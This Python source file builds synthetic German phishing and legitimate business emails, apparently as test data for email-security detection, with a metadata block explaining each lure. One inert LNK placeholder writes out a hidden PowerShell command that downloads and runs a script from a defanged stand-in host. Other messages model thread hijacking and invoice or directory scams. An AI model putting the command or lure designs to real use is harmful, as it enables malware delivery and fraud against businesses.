<p style="font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#736c64;width:520px;line-height:16px">Sie haben diese E-Mail erhalten, weil Sven Ohlsen (s.ohlsen@hellwig-werft.de) eine Datei mit Ihnen geteilt hat. <a href="https://www.dropbox.com/l/AAC8x0vVQp3Zk1mYw5T2rN7eJ4kL9bH6qUs/unsubscribe_from_shares" style="color:#736c64">Abmelden</a><br>Dropbox, Inc., PO Box 77767, San Francisco, CA 94107</p>
</td></tr></table></body></html>
""" % link
    text = ("Sven Ohlsen hat „Kostenvoranschlag_Refit_Bavaria-C46_2026-27.pdf“ mit Ihnen geteilt\n\n"
            "„Moin Herr Hansen, anbei wie besprochen der Kostenvoranschlag für den Refit der C46 ‚Seeadler‘ inkl. Osmosebehandlung. "
            "Die Datei ist zu groß für den Mailversand. Gruß Sven Ohlsen“\n\nDatei ansehen: %s\n\nViel Spaß!\nDas Dropbox-Team\n" % link)
    root = alt(text, paras_html, "utf-8", "quoted-printable", m.boundary("generic"))
    msgid = "<%s.%s@dropbox.com>" % (hexs(m.r, 32), hexs(m.r, 8))
    hdrs = [("Date", rfc_date(t, "UTC", "pad")),
            ("From", "=?utf-8?q?Sven_Ohlsen_=28=C3=BCber_Dropbox=29?= <no-reply@dropbox.com>"),
            ("Reply-To", "s.ohlsen@hellwig-werft.de"), ("To", S["fleet"].email), ("Message-ID", msgid),
            ("Subject", "=?utf-8?q?Sven_Ohlsen_hat_=E2=80=9EKostenvoranschlag=5FRefit=5FBavaria-C46=5F2026-27?=\r\n =?utf-8?q?=2Epdf=E2=80=9C_mit_Ihnen_geteilt?="),
            ("MIME-Version", "1.0"), ("MIME", None), ("X-Dropbox-Message-Type", "shared_content_notification"),
            ("X-Priority", "3"), ("Auto-Submitted", "auto-generated")]
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "dropbox.com", "s1024-meo", "Content-Type:MIME-Version:Subject:Message-ID:To:Reply-To:From:Date",
                      body, t=int(epoch(t)), style="exim", bits=1024)
    pre = [("DKIM-Signature", dv),
           ("Received", "from dbx-mailer-%d.prod.corp.dropbox.com (localhost [127.0.0.1])\r\n\tby mail-%d.dropboxmail.com (Postfix) with ESMTP id %s\r\n\tfor <%s>; %s"
            % (r.randrange(10, 99), r.randrange(10, 99), postfix_qid(r, t), S["fleet"].email, rfc_date(t, "UTC", "abbr")))]
    ip = "162.125.%d.%d" % (r.choice([4, 6, 8]), r.randrange(10, 250))
    client = ("mail-%s.dropboxmail.com" % ip.replace(".", "-"), "mail-%s.dropboxmail.com" % ip.replace(".", "-"), ip, mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "dropbox.com", "s1024-meo", bp, 1024)], dmarc=("pass", "reject", "dropbox.com")),
           pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Genuine Dropbox share notification sent from the shipyard contact's compromised Dropbox account; the shared PDF is the lure",
                  why="Hellwig Werft's account was taken over: share at 03:12 on a Sunday, the yard always sends quotes as attachments from its IONOS mailbox, "
                      "'file too large' pretext; everything technical (SPF/DKIM/DMARC dropbox.com) passes; the PDF inside links to a credential page")
    return m


@message("attack", "07-de-passwort-zip-lnk.eml")
def a07():
    m = M("attack", "07-de-passwort-zip-lnk.eml")
    t = utc(2026, 11, 10, 13, 26, 5)
    sender = "k.hartmann@t-online.de"
    env(m, t, S["charter"].email, sender)
    pw = m.fact("ZIP password", "2026", "given in body")
    lnk_text = ("INERT TEST PLACEHOLDER - NOT A REAL SHORTCUT.\r\n"
                "Represents a Windows .lnk whose target would be:\r\n"
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -ep bypass -c \"iwr hxxps://cdn-docs-share[.]top/p/7781.ps1 | iex\"\r\n"
                "Icon: %SystemRoot%\\System32\\imageres.dll,-102 (PDF-like)\r\n")
    m.fact("Payload URL (defanged)", "hxxps://cdn-docs-share[.]top/p/7781.ps1", "text inside inert LNK placeholder")
    zipdata = containers.make_zip_encrypted(
        [("Schadensmeldung_Seeschwalbe_Fotos_Gutachten.pdf.lnk", lnk_text.encode())], pw, m.r, dt=(2026, 11, 10, 14, 20, 0))
    m.passwords["Schadensmeldung_Seeschwalbe_2026.zip"] = pw
    q_t = utc(2026, 7, 20, 9, 12, 0)
    orig = ("Sehr geehrter Herr Hartmann,\n\nvielen Dank für Ihre Rückmeldung zum Törn. Für die Schadensmeldung zur Beschädigung am Ruderblatt "
            "der 'Seeschwalbe' (Bavaria C42, Heiligenhafen) benötigen wir noch Fotos sowie ggf. das Gutachten des Hafenmeisters. "
            "Die Kaution bleibt bis zur Klärung blockiert.\n\nMit freundlichen Grüßen\nAnna Fischer\nCharter Sales\nExample Yachting GmbH")
    text = ("Hallo Frau Fischer,\n\nentschuldigen Sie die späte Rückmeldung. Anbei wie gewünscht die Fotos und das Gutachten zur Schadensmeldung "
            "als Archiv (wegen Datenschutz verschlüsselt).\n\nPasswort: 2026\n\nBitte geben Sie mir Bescheid, wann die Kaution freigegeben wird.\n\n"
            "Viele Grüße\nKlaus Hartmann\n\n\n-----Original-Nachricht-----\nBetreff: Schadensmeldung Seeschwalbe / Charter 04.07.-18.07.2026\n"
            "Datum: %s\nVon: Anna Fischer <anna.fischer@example.com>\nAn: k.hartmann@t-online.de\n\n%s\n"
            % (_de_date(q_t) + " 11:12", quote_lines(orig)))
    root = mixed([Part("text/plain", text, charset="utf-8", cte="base64"),
                  att(zipdata, "application/zip", "Schadensmeldung_Seeschwalbe_2026.zip", style="generic", size=False)],
                 m.boundary("generic"))
    msgid = "<%s.%s@ecmail%02d.t-online.de>" % (int(epoch(t)) * 1000 + 417, hexs(m.r, 8), m.r.randrange(1, 40))
    hdrs = [("Date", rfc_date(t, "CET")), ("From", "Klaus Hartmann <%s>" % sender), ("To", "Anna Fischer <%s>" % S["charter"].email),
            ("Message-ID", msgid), ("In-Reply-To", m.msgid_exchange("EXCH01")),
            ("Subject", "AW: Schadensmeldung Seeschwalbe / Charter 04.07.-18.07.2026"),
            ("MIME-Version", "1.0"), ("MIME", None), ("X-TOI-MSGID", uuid4(m.r))]
    r = m.r
    ip = "194.25.134.%d" % r.randrange(8, 90)
    host = "mailout%02d.t-online.de" % r.randrange(1, 12)
    bot_ip = "45.134.26.%d" % r.randrange(2, 250)
    pre = [("Received", "from fwd86.aul.t-online.de (fwd86.aul.t-online.de [10.223.144.%d])\r\n\tby %s (Postfix) with SMTP id %s\r\n\tfor <%s>; %s"
            % (r.randrange(2, 250), host, postfix_qid(r, plus(t, 1)), S["charter"].email, rfc_date(plus(t, 1), "CET", "postfix"))),
           ("Received", "from [%s] ([%s]) by fwd86.aul.t-online.de\r\n\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\r\n"
            "\tesmtp id %s; %s" % (bot_ip, bot_ip, "1t" + alnum(r, 4) + "-" + alnum(r, 7), rfc_date(t, "CET")))]
    client = (host, host, ip, mta.TLS13_256)
    finish(m, root, dict(spf="none", dkim=[], dmarc=("none", "none", "t-online.de")), pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="utf-8", cte="base64", structure="mixed(text/plain, encrypted ZIP)",
                  what="Reply in a months-old charter damage thread from a real customer's (compromised) T-Online mailbox with a password ZIP",
                  why="Thread-hijacking malware pattern: old quoted thread, generic text, ZIP encrypted with password in the body to defeat scanning, "
                      "inner file 'Gutachten.pdf.lnk' (double extension shortcut) - inert placeholder here; submission from a VPS IP, not T-Online's webmail")
    return m


@message("attack", "08-de-branchenregister-formular.eml")
def a08():
    m = M("attack", "08-de-branchenregister-formular.eml")
    t = utc(2026, 10, 6, 8, 44, 17)
    dom = "wassersport-branchenregister.de"
    sender = "eintragung@" + dom
    env(m, t, "info@example.com", "bounce@" + dom)
    iban = m.iban(ids.iban("BG", "STSA93001020471538"),
                  "payee account of the 'register' in the form's small print (Bulgarian bank)")
    m.fact("Fee", "1.190,00 EUR netto p.a., Laufzeit 3 Jahre", "hidden in small print")
    m.phone("+49 30 896 774 21", "'Kundenservice' number in form")
    lt, _ = local(t, "CET")
    doc = docs.notice(
        {"Title": "Eintragungsformular 2027", "Producer": "FPDF 1.86", "CreationDate": pdf.pdf_date(lt)},
        "DWR Deutsches Wassersport-Register", "Branchenverzeichnis für Yachtcharter, Bootshandel und Marinas", "#7A1F1F",
        [("h", "Aktualisierung Ihres Firmeneintrags – Korrekturabzug 2027"),
         ("p", "Registernummer: DWR-2027-HH-18472        Eingang bis: 20.10.2026"),
         ("kv", [("Firma", "Example Yachting GmbH"), ("Anschrift", "Am Sandtorkai 48, 20457 Hamburg"),
                 ("Branche", "Yachtcharter / Bootshandel"), ("Telefon", DE["phone"]), ("E-Mail", "info@example.com"),
                 ("USt-IdNr.", DE["tax"][0][1]), ("Handelsregister", "HRB 184723")]),
         ("p", "Bitte prüfen Sie die oben stehenden Daten, korrigieren Sie diese gegebenenfalls und senden Sie das Formular "
               "unterschrieben per E-Mail oder Fax (030 896 774 29) an uns zurück. Die Rücksendung ist für die Aktualisierung erforderlich."),
         ("space", 40),
         ("p", "______________________________            ______________________________\nOrt, Datum                                              Stempel, Unterschrift"),
         ("space", 20),
         ("small", "Mit der Unterzeichnung beauftragen Sie den Eintrag Ihres Unternehmens in das Online-Verzeichnis DWR für eine Laufzeit von 3 Jahren "
                   "zum Jahrespreis von 1.190,00 EUR zzgl. MwSt., zahlbar jährlich im Voraus nach Rechnungsstellung auf das Konto IBAN %s (BIC STSABGSF). "
                   "Der Vertrag verlängert sich um jeweils ein weiteres Jahr, wenn er nicht 3 Monate vor Ablauf gekündigt wird. Es gelten die AGB des Anbieters, "
                   "einsehbar unter www.wassersport-branchenregister.de/agb. Kein behördliches Register. Gerichtsstand: Sofia." % ids.iban_print(iban))],
        ["DWR Deutsches Wassersport-Register · Ein Service der Media Index EOOD, bul. Vitosha 89, 1463 Sofia · Tel. +49 30 896 774 21"],
        logo="ring")
    pdfdata = doc.render()
    text = ("Sehr geehrte Damen und Herren,\n\nim Rahmen der jährlichen Aktualisierung des Deutschen Wassersport-Registers bitten wir Sie, "
            "die bei uns hinterlegten Firmendaten zu prüfen. Den Korrekturabzug für Ihr Unternehmen finden Sie im Anhang.\n\n"
            "Bitte senden Sie das Formular bis zum 20.10.2026 unterschrieben zurück, damit Ihr Eintrag für die Saison 2027 "
            "korrekt veröffentlicht werden kann.\n\nBei Fragen erreichen Sie unseren Kundenservice unter +49 30 896 774 21.\n\n"
            "Mit freundlichen Grüßen\nIhr DWR-Team\nwww.wassersport-branchenregister.de\n")
    root = mixed([text_part(text, "windows-1252", "quoted-printable"),
                  att(pdfdata, "application/pdf", "DWR_Korrekturabzug_Example_Yachting_GmbH.pdf", style="generic", size=False)],
                 m.boundary("generic"))
    msgid = "<%s@%s>" % (hexs(m.r, 24), dom)
    hdrs = h_generic("DWR Eintragungsservice <%s>" % sender, ["info@example.com"],
                     "Aktualisierung Ihres Firmeneintrags 2027 - Example Yachting GmbH", t, "CET", msgid,
                     order=("Date", "From", "To", "Subject", "Message-ID"),
                     extra_after=[("X-Mailer", "PHP/8.1.29")], subj_cs="windows-1252")
    body = root.payload()
    r = m.r
    qid = postfix_qid(r, t)
    dv, bp = mta.dkim(r, dom, "mail", "Date:From:To:Subject", body, t=int(epoch(t)), c="relaxed/simple")
    pre = [("DKIM-Filter", "OpenDKIM Filter v2.11.0 mail.%s %s" % (dom, qid)), ("DKIM-Signature", dv),
           ("Received", "by mail.%s (Postfix, from userid 33)\r\n\tid %s; %s" % (dom, qid, rfc_date(t, "CET", "postfix")))]
    client = ("mail.%s" % dom, "static.88.217.12.49.clients.your-server.de", "49.12.217.88", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", dom, "mail", bp, 2048)], dmarc=("none", "none", dom)), pre, client, plus(t, 1), hdrs)
    m.info = dict(charset="windows-1252", cte="quoted-printable", structure="mixed(text/plain, PDF form)",
                  what="Register/directory scam: 'correction proof' form that is really a 3-year paid listing contract at 1,190 EUR/yr",
                  why="Private 'register' posing as official (registry numbers, deadline), price and Sofia jurisdiction hidden in small print, "
                      "Bulgarian payee IBAN, PHP mail from a Hetzner VPS; a signed return creates a 'contract'")
    return m


# =====================================================================================
# BUSINESS
# =====================================================================================

def _lief_relay(m, root, hdrs, client_ip, auth_user, dkim_h="Date:From:To:Cc:Subject:From"):
    body = root.payload()
    pre, client, t_mx, bp = mta.postfix_relay(m.env, "mail.lieferant-gmbh.de", "203.0.113.25", "CET", client_ip,
                                              "lieferant-gmbh.de", "mail2024", body, auth_user=auth_user, dkim_h=dkim_h)
    return finish(m, root, dict(spf="pass", dkim=[("pass", "lieferant-gmbh.de", "mail2024", bp, 2048)],
                                dmarc=("pass", "quarantine", "lieferant-gmbh.de")), pre, client, t_mx, hdrs)


@message("business", "01-de-lieferant-bankwechsel-echt.eml")
def b01():
    m = M("business", "01-de-lieferant-bankwechsel-echt.eml")
    t = utc(2026, 10, 19, 12, 6, 48)
    sender = "s.maier@lieferant-gmbh.de"
    env(m, t, S["ap"].email, sender)
    new = m.iban(LIEF.bank_new[2], "new genuine Lieferant account (Commerzbank Kiel) from 01.12.2026")
    old = m.iban(LIEF.bank[2], "existing account, stays open until 31.03.2027")
    m.phone("+49 431 72 09 80-0", "Lieferant switchboard, asked to be used for verification")
    paras = ["Sehr geehrte Frau Schröder,", "",
             "wie Ihnen unser Geschäftsführer Herr Lange bereits mit Schreiben vom 09.10.2026 per Post mitgeteilt hat, "
             "wechseln wir zum Jahresende unsere Hausbank. Das Schreiben hänge ich Ihnen zur Sicherheit noch einmal als PDF an.", "",
             "Neue Bankverbindung ab 01.12.2026:\nCommerzbank AG, Filiale Kiel\nIBAN %s\nBIC COBADEFFXXX" % ids.iban_print(new), "",
             "Unser bisheriges Konto bei der Förde Sparkasse (%s) bleibt bis 31.03.2027 bestehen; Zahlungen, die dort noch eingehen, "
             "werden ganz normal zugeordnet. Es gibt also keine Eile und keine offenen Posten, die \"umgeleitet\" werden müssten." % ids.iban_print(old), "",
             "Bitte verifizieren Sie die Änderung wie bei Ihnen üblich per Rückruf über unsere Zentrale +49 431 72 09 80-0 "
             "(Frau Jansen aus der Buchhaltung oder ich) – und bitte nicht über eine Telefonnummer, die in einer E-Mail steht. "
             "Nach dem Hinweis Ihres Kollegen Herrn Hoffmann auf die gefälschte Mail von \"lieferantgmbh.de\" letzte Woche haben wir "
             "unsere Kunden zusätzlich per Post informiert.", "",
             "Die neue Bankverbindung steht ab Rechnung RE-2026-12500 auch im Rechnungsfuß.", "",
             "Viele Grüße aus Kiel", "Stefan Maier"]
    sig = ["Stefan Maier", "Key Account Management", "Lieferant GmbH | Wischhofstraße 1-3 | 24148 Kiel",
           "Tel. +49 431 72 09 80-21 | www.lieferant-gmbh.de"]
    text = "\n".join(paras) + "\n\n-- \n" + "\n".join(sig) + "\n"
    lt, _ = local(t, "CET")
    doc = docs.letter(
        {"Title": "Bankverbindung ab 01.12.2026", "Author": "Lange, Klaus-Dieter", "Creator": "Writer",
         "Producer": "LibreOffice 24.8", "CreationDate": "D:20261009101522+02'00'"},
        "Lieferant GmbH", "Schiffsbedarf & Yachtausrüstung seit 1987", "#0B3C6E",
        "Lieferant GmbH · Wischhofstraße 1-3 · 24148 Kiel",
        ["Example Yachting GmbH", "Buchhaltung", "Am Sandtorkai 48", "20457 Hamburg"],
        "Kiel, 09.10.2026", "Wechsel unserer Bankverbindung zum 01.12.2026",
        ["Sehr geehrte Damen und Herren,",
         "zum 01.12.2026 führen wir unseren Zahlungsverkehr über die Commerzbank AG. Ab diesem Datum bitten wir um Zahlungen auf:",
         ("table", [("Kontoinhaber", 140), ("Lieferant GmbH", 343)],
          [["Kreditinstitut", "Commerzbank AG, Filiale Kiel"], ["IBAN", ids.iban_print(new)], ["BIC", "COBADEFFXXX"]]),
         "Unser bisheriges Konto bei der Förde Sparkasse bleibt bis zum 31.03.2027 bestehen; dort eingehende Zahlungen werden "
         "weiterhin zugeordnet. Bitte prüfen Sie diese Mitteilung gern telefonisch unter unserer Zentrale 0431 72 09 80-0.",
         "Achtung: Wir ändern unsere Bankverbindung niemals kurzfristig per E-Mail. Sollten Sie abweichende Mitteilungen erhalten, "
         "informieren Sie uns bitte umgehend."],
        "Mit freundlichen Grüßen", ["Klaus-Dieter Lange", "Geschäftsführer"], LIEF_FOOTER)
    pdfdata = doc.render()
    msgid = m.msgid_tb("lieferant-gmbh.de")
    root = mixed([Part("text/plain", text, charset="UTF-8", cte="8bit", quote_charset=False, ct_extra="; format=flowed"),
                  Part("application/pdf", pdfdata, cte="base64", filename="2026-10-09_Bankverbindung_Lieferant_GmbH.pdf",
                       disposition="attachment")], m.boundary("thunderbird"))
    hdrs = h_thunderbird(m, "Stefan Maier <%s>" % sender, ["=?UTF-8?Q?Jana_Schr=C3=B6der?= <%s>" % S["ap"].email],
                         "Neue Bankverbindung Lieferant GmbH ab 01.12.2026 (Schreiben vom 09.10.)", t, "CET", msgid,
                         cc=["=?UTF-8?Q?Markus_J=C3=A4ger?= <%s>" % S["proc"].email], org="Lieferant GmbH")
    _lief_relay(m, root, hdrs, "192.168.20.41", "s.maier")
    m.info = dict(charset="UTF-8", cte="8bit (format=flowed)", structure="mixed(text/plain, PDF letter)",
                  what="Lieferant GmbH announces its real change of bank, already sent by post, asks for verification by call-back",
                  why="From the genuine relay with SPF/DKIM/DMARC pass for lieferant-gmbh.de, same Thunderbird client as the rest of their mail, "
                      "long notice period, old account stays valid, explicitly asks to verify via the known switchboard",
                  mirrors=["01-de-lieferant-bankwechsel.eml", "02-de-lieferant-thread-hijack.eml"],
                  differs="real domain and relay; change announced by post; no urgency; old account remains valid; call-back via known number")
    return m


def _facturx(inv_no, date_iso, seller, buyer_vat, net, vat, gross, iban, lines):
    items = ""
    for i, (name, qty, price, total) in enumerate(lines, 1):
        items += ("<ram:IncludedSupplyChainTradeLineItem><ram:AssociatedDocumentLineDocument><ram:LineID>%d</ram:LineID>"
                  "</ram:AssociatedDocumentLineDocument><ram:SpecifiedTradeProduct><ram:Name>%s</ram:Name></ram:SpecifiedTradeProduct>"
                  "<ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>%.2f</ram:ChargeAmount>"
                  "</ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement><ram:SpecifiedLineTradeDelivery>"
                  "<ram:BilledQuantity unitCode=\"H87\">%d</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>"
                  "<ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:TypeCode>VAT</ram:TypeCode><ram:CategoryCode>S</ram:CategoryCode>"
                  "<ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax><ram:SpecifiedTradeSettlementLineMonetarySummation>"
                  "<ram:LineTotalAmount>%.2f</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>"
                  "</ram:IncludedSupplyChainTradeLineItem>\n" % (i, esc(name), price, qty, total))
    return ("""<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
<rsm:ExchangedDocumentContext><ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter></rsm:ExchangedDocumentContext>
<rsm:ExchangedDocument><ram:ID>%s</ram:ID><ram:TypeCode>380</ram:TypeCode><ram:IssueDateTime><udt:DateTimeString format="102">%s</udt:DateTimeString></ram:IssueDateTime></rsm:ExchangedDocument>
<rsm:SupplyChainTradeTransaction>
%s<ram:ApplicableHeaderTradeAgreement><ram:BuyerReference>10234</ram:BuyerReference>
<ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name><ram:PostalTradeAddress><ram:PostcodeCode>24148</ram:PostcodeCode><ram:LineOne>Wischhofstraße 1-3</ram:LineOne><ram:CityName>Kiel</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress><ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
<ram:BuyerTradeParty><ram:Name>Example Yachting GmbH</ram:Name><ram:PostalTradeAddress><ram:PostcodeCode>20457</ram:PostcodeCode><ram:LineOne>Am Sandtorkai 48</ram:LineOne><ram:CityName>Hamburg</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress><ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:BuyerTradeParty>
</ram:ApplicableHeaderTradeAgreement><ram:ApplicableHeaderTradeDelivery/>
<ram:ApplicableHeaderTradeSettlement><ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
<ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>%s</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
<ram:ApplicableTradeTax><ram:CalculatedAmount>%.2f</ram:CalculatedAmount><ram:TypeCode>VAT</ram:TypeCode><ram:BasisAmount>%.2f</ram:BasisAmount><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
<ram:SpecifiedTradePaymentTerms><ram:Description>Zahlbar innerhalb 30 Tagen netto, 14 Tage 2 %% Skonto</ram:Description></ram:SpecifiedTradePaymentTerms>
<ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:LineTotalAmount>%.2f</ram:LineTotalAmount><ram:TaxBasisTotalAmount>%.2f</ram:TaxBasisTotalAmount><ram:TaxTotalAmount currencyID="EUR">%.2f</ram:TaxTotalAmount><ram:GrandTotalAmount>%.2f</ram:GrandTotalAmount><ram:DuePayableAmount>%.2f</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
</ram:ApplicableHeaderTradeSettlement></rsm:SupplyChainTradeTransaction></rsm:CrossIndustryInvoice>
""" % (inv_no, date_iso, items, seller, buyer_vat, iban, vat, net, net, net, vat, gross, gross)).encode("utf-8")


@message("business", "02-de-lieferant-rechnung-girocode.eml")
def b02():
    m = M("business", "02-de-lieferant-rechnung-girocode.eml")
    t = utc(2026, 11, 3, 15, 31, 2)
    sender = "rechnungen@lieferant-gmbh.de"
    env(m, t, "rechnungseingang@example.com", sender)
    iban = m.iban(LIEF.bank[2], "Lieferant's current account (valid until 31.03.2027)")
    lines = [("Sikaflex-291i weiß 300 ml", 48, 11.90, 571.20), ("Rettungsweste Secumar Ultra 170, inkl. Service-Kit", 12, 139.00, 1668.00),
             ("Pyrotechnik-Set Offshore SOLAS (Ablauf 2030)", 6, 189.50, 1137.00), ("Feuerlöscher ABC 2 kg, Marine", 10, 42.80, 428.00)]
    net = sum(l[3] for l in lines)
    vat = round(net * 0.19, 2)
    gross = round(net + vat, 2)
    payload = docs.epc_qr("NOLADE21KIE", "Lieferant GmbH", iban, gross, "RE-2026-11873 KD 10234")
    m.qr.append(("PDF RE-2026-11873.pdf", payload))
    lt, _ = local(t, "CET")
    fx = _facturx("RE-2026-11873", "20261103", "Lieferant GmbH", DE["tax"][0][1], net, vat, gross, iban, lines)
    fmt = lambda v: ("%.2f" % v).replace(".", ",")
    fmt_t = lambda v: "{:,.2f}".format(v).replace(",", "X").replace(".", ",").replace("X", ".")
    doc = docs.invoice(
        {"Title": "Rechnung RE-2026-11873", "Author": "Lieferant GmbH", "Creator": "Sage 100 9.0", "Producer": "PDFlib+PDI 10.0.1 (Win64)",
         "CreationDate": pdf.pdf_date(lt)},
        "Lieferant GmbH", "Schiffsbedarf & Yachtausrüstung", "#0B3C6E", "Lieferant GmbH · Wischhofstraße 1-3 · 24148 Kiel",
        ["Example Yachting GmbH", "Rechnungseingang", "Am Sandtorkai 48", "20457 Hamburg"], "Rechnung RE-2026-11873",
        [("Rechnungsdatum", "03.11.2026"), ("Lieferdatum", "30.10.2026"), ("Kundennummer", "10234"), ("Auftrag", "AB-26-10388"),
         ("Ihre USt-IdNr.", DE["tax"][0][1])],
        [("Pos", 30), ("Artikel", 250), ("Menge", 50), ("Einzelpreis", 70), ("Gesamt", 83)],
        [[str(i), n, str(q), fmt(p), fmt_t(tot)] for i, (n, q, p, tot) in enumerate(lines, 1)], ["l", "l", "r", "r", "r"],
        [("Nettobetrag", fmt_t(net) + " EUR", False), ("USt 19 %", fmt_t(vat) + " EUR", False), ("Rechnungsbetrag", fmt_t(gross) + " EUR", True)],
        ["Zahlbar innerhalb 30 Tagen netto, bei Zahlung innerhalb 14 Tagen 2 % Skonto.",
         "Bankverbindung: Förde Sparkasse · IBAN %s · BIC NOLADE21KIE" % ids.iban_print(iban),
         "Diese Rechnung ist eine elektronische Rechnung im Format ZUGFeRD 2.3 / Factur-X (EN 16931). Die strukturierten Daten sind als factur-x.xml eingebettet."],
        LIEF_FOOTER, qr_payload=payload, qr_caption="GiroCode: mit Banking-App scannen", xml=fx, moddate=pdf.pdf_date(lt))
    doc.xmp = ('<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
               '<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/"><pdfaid:part>3</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance></rdf:Description>'
               '<rdf:Description rdf:about="" xmlns:fx="urn:factur-x:pdfa:CrossIndustryDocument:invoice:1p0#"><fx:DocumentType>INVOICE</fx:DocumentType>'
               '<fx:DocumentFileName>factur-x.xml</fx:DocumentFileName><fx:Version>1.0</fx:Version><fx:ConformanceLevel>EN 16931</fx:ConformanceLevel></rdf:Description>'
               '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
    pdfdata = doc.render()
    text = ("Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung RE-2026-11873 vom 03.11.2026 über %s EUR "
            "als elektronische Rechnung (ZUGFeRD/Factur-X, PDF mit eingebetteter XML-Datei).\n\n"
            "Bei Fragen zur Rechnung wenden Sie sich bitte an unsere Buchhaltung, Tel. +49 431 72 09 80-30.\n\n"
            "Mit freundlichen Grüßen\n\nLieferant GmbH\nBuchhaltung\nWischhofstraße 1-3, 24148 Kiel\n\n"
            "Diese E-Mail wurde automatisch erzeugt. Antworten an diese Adresse werden gelesen.\n" % fmt_t(gross))
    root = mixed([Part("text/plain", text, charset="iso-8859-15", cte="quoted-printable"),
                  Part("application/pdf", pdfdata, cte="base64", filename="RE-2026-11873.pdf", disposition="attachment")],
                 m.np(0))
    msgid = "<SAGE.%s.%s@lieferant-gmbh.de>" % (lt.strftime("%Y%m%d%H%M%S"), hexs(m.r, 6, True))
    hdrs = h_generic("Lieferant GmbH Buchhaltung <%s>" % sender, ["rechnungseingang@example.com"],
                     "Rechnung RE-2026-11873 - Lieferant GmbH - Kd.-Nr. 10234", t, "CET", msgid,
                     order=("Message-ID", "From", "To", "Subject", "Date"),
                     extra_after=[("MIME-Version", "1.0"), ("MIME", None), ("X-Mailer", "Sage 100 9.0 (Mail-Versand)"),
                                  ("Disposition-Notification-To", sender)])
    _lief_relay(m, root, hdrs, "192.168.20.12", "erp-mailer", dkim_h="Date:From:To:Subject:Message-ID:From")
    m.info = dict(charset="iso-8859-15", cte="quoted-printable", structure="mixed(text/plain, ZUGFeRD PDF with embedded factur-x.xml and GiroCode)",
                  what="Regular Lieferant invoice from their ERP, e-invoice (Factur-X) with EPC QR code",
                  why="Genuine relay and domain, DKIM/SPF/DMARC pass, IBAN is the known Förde Sparkasse account, matching order number and customer number, "
                      "structured invoice data consistent with the PDF",
                  mirrors=["02-de-lieferant-thread-hijack.eml"],
                  differs="known IBAN in text, XML and QR; no request to change anything")
    return m


@message("business", "03-de-ceo-anzahlung-intern.eml")
def b03():
    m = M("business", "03-de-ceo-anzahlung-intern.eml")
    t = utc(2026, 11, 12, 16, 42, 19)
    env(m, t, S["cfo"].email, S["ceo"].email)
    paras = ["Hallo Claudia,", "",
             "kannst Du bitte heute noch die zweite Anzahlung (30 %) an die Stocznia Jachtów Pomorze für die beiden Pomorze 41 "
             "(Baunummern 41-118 und 41-119) freigeben? Der Kaufvertrag liegt seit Montag im DMS (Vorgang 2026-BS-0187), die Proforma "
             "von Herrn Kowalczyk hat Nils gestern in den Workflow gestellt – 2 × 57.300 EUR.", "",
             "Bankverbindung bitte wie immer aus dem Kreditorenstamm, nicht aus der Proforma übernehmen. Die Werft wartet mit dem "
             "Auflegen der Decks auf den Zahlungseingang, deshalb die Eile – wenn es erst morgen früh rausgeht, ist es aber auch kein Drama.", "",
             "Ich bin morgen mit Nils in Ostróda zur Rumpfabnahme und auf dem Handy erreichbar.", "",
             "Danke und Gruß", "Henrik", "",
             "Dr. Henrik Brandt", "Geschäftsführer", "Example Yachting GmbH | Am Sandtorkai 48 | 20457 Hamburg",
             "T +49 40 3860 7410 | henrik.brandt@example.com"]
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "DE")
    msgid = m.msgid_exchange("EXCH01")
    root = alt(text, html, "utf-8", "quoted-printable", outlook_bounds(msgid)["alt"])
